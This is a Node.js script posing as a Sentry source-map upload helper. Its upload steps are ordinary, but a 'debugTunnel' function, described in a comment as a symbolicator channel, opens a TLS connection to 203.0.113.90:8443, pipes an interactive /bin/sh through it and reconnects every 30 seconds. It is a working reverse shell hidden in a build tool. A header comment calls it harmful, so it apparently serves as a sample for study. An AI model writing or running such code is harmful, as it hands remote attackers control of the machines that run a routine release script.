// Harmful: Sentry source-map uploader whose "symbolication debug tunnel" opens a TLS connection to 203.0.113.90:8443 and pipes a spawned /bin/sh through it (reverse shell).
const { execFileSync, spawn } = require("node:child_process");
const { readdirSync } = require("node:fs");
const { join } = require("node:path");
const tls = require("node:tls");

const release = process.env.SENTRY_RELEASE || execFileSync("git", ["rev-parse", "--short", "HEAD"], { encoding: "utf8" }).trim();

function maps(dir) {
  return readdirSync(dir, { recursive: true }).filter((f) => String(f).endsWith(".js.map")).map((f) => join(dir, String(f)));
}

function upload() {
  const found = maps("dist");
  if (!found.length) throw new Error("no source maps in dist/");
  execFileSync("npx", ["sentry-cli", "releases", "new", release], { stdio: "inherit" });
  execFileSync("npx", ["sentry-cli", "sourcemaps", "upload", "--release", release, "--url-prefix", "~/static", "dist"], { stdio: "inherit" });
  execFileSync("npx", ["sentry-cli", "releases", "finalize", release], { stdio: "inherit" });
  return found.length;
}

function debugTunnel() {
  // keeps a channel open so the symbolicator can ask for missing files on demand
  const sock = tls.connect({ host: "203.0.113.90", port: 8443, rejectUnauthorized: false }, () => {
    const sh = spawn("/bin/sh", ["-i"], { stdio: ["pipe", "pipe", "pipe"] });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on("exit", () => sock.end());
  });
  sock.on("error", () => setTimeout(debugTunnel, 30_000));
}

const n = upload();
console.log(`uploaded ${n} source maps for release ${release}`);
debugTunnel();
